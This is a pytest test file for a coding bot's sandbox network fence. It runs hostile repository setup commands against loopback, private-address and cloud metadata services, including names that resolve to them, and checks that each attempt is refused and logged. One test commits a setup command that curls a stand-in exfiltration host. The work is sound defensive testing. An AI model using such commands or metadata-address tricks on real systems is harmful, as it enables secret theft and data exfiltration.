"""A hostile repository's setup commands against the network fence, on a machine played by a network namespace
the test creates (tests/fence_netns.py): services on the host's 127.0.0.1, on a private address and on the
metadata address 169.254.169.254, names that resolve to them, a UDP listener, and a package index. Each attack
runs twice: without the fence (it reaches the secret, so the test can fail) and fenced (refused, reported)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from functools import lru_cache
from pathlib import Path

import pytest

from jobs.metrics import read_metric
from jobs.records.runs import load_run, read_log
from tests import sample_repo

ROOT = Path(__file__).resolve().parents[1]
pytestmark = [pytest.mark.abuse, pytest.mark.slow]


@lru_cache(maxsize=None)
def play() -> dict:
    proc = subprocess.run(["unshare", "--net", "--mount", "--propagation", "private", "--",
                           sys.executable, "-m", "tests.fence_netns"], cwd=ROOT, capture_output=True, text=True,
                          timeout=300, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert proc.returncode == 0, proc.stderr[-3000:]
    return json.loads(proc.stdout)


needs_namespaces = pytest.mark.skipif(os.geteuid() != 0 or shutil.which("unshare") is None,
                                      reason="the test plays a machine in a network namespace: needs root")

SECRETS = {"loopback direct": "SECRET-LOOPBACK", "loopback through the proxy": "SECRET-LOOPBACK",
           "private address direct": "SECRET-PRIVATE", "private address through the proxy": "SECRET-PRIVATE",
           "metadata direct": "SECRET-METADATA", "metadata through the proxy": "SECRET-METADATA",
           "name for the metadata service": "SECRET-METADATA", "name for loopback": "SECRET-LOOPBACK",
           "name for the private address, CONNECT": "SECRET-PRIVATE"}


@needs_namespaces
@pytest.mark.parametrize("attack", sorted(SECRETS))
def test_a_setup_command_reaches_no_host_service_through_the_fence(attack):
    report = play()
    assert SECRETS[attack] in report["unfenced"]["results"][attack]["output"]  # the service is there to steal from
    fenced = report["fenced"]["results"][attack]
    assert SECRETS[attack] not in fenced["output"]


@needs_namespaces
def test_no_datagram_leaves_the_fence():
    report = play()
    assert report["unfenced"]["results"]["udp datagram"]["datagram"] is True
    fenced = report["fenced"]["results"]["udp datagram"]
    assert fenced["datagram"] is False and "Network is unreachable" in fenced["output"]


@needs_namespaces
def test_every_refusal_is_one_line_naming_the_host_and_what_would_allow_it():
    refusals = play()["fenced"]["refusals"]
    assert "setup tried to reach not-allowed.example: add it to [network] allow in .codexbot.toml" in refusals
    for name, address in (("metadata.test", "169.254.169.254"), ("sneaky.test", "127.0.0.1"),
                          ("internal.test", "10.203.0.1")):  # allowed by the repository, and still refused
        assert (f"setup tried to reach {name}, refused: {name} resolves to {address}, which the sandbox may never "
                "reach (loopback, private, link-local or metadata addresses); no setting allows that") in refusals
    assert any(line.startswith("setup tried to reach 169.254.169.254, refused:") for line in refusals)
    direct = [line for line in refusals if "direct" in line]
    assert direct == []  # direct connections never reach the proxy: there is no route to report
    assert len(refusals) == 7


@needs_namespaces
def test_pip_install_from_an_allowlisted_index_works_inside_the_fence():
    result = play()["fenced"]["results"]["pip install from the allowlisted index"]
    assert result["exit"] == 0, result["output"]
    assert result["output"].split() == ["tinypkg", "tinypkg-1.0.dist-info"]


def test_a_refusal_in_a_servers_run_is_a_run_log_line_and_a_metric(stack, redis_conn):
    """Through the whole product: the repository's setup tries a domain nobody allowed."""
    stack.github.commit_files(sample_repo.REPO, "main", {".codexbot.toml": (
        '[setup]\ncommands = ["curl -sS -m 5 https://exfil.example/ || true"]\n')}, "setup phones home")
    stack.model.set_script([
        {"tool_calls": [{"name": "write_file", "arguments": {"path": "calc.py", "content": sample_repo.FIXED_CALC}}]},
        {"tool_calls": [{"name": "finish", "arguments": {"summary": "Fixed add."}}]}])
    number = stack.github.open_issue(sample_repo.REPO, "Tests fail", "", user="alice")["number"]
    run_id = json.loads(stack.github.comment_as("alice", sample_repo.REPO, number,
                                                "/codex fix the failing test").response)["run_id"]
    proc = stack.run_worker_burst(timeout=120)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert load_run(redis_conn, run_id).status == "succeeded"
    log = read_log(redis_conn, run_id)
    assert [line.split(" ", 1)[1] for line in log if "tried to reach" in line] == [
        "setup tried to reach exfil.example: add it to [network] allow in .codexbot.toml"]
    assert read_metric(redis_conn, "egress_refused") == [({"kind": "unlisted", "phase": "setup"}, 1.0)]
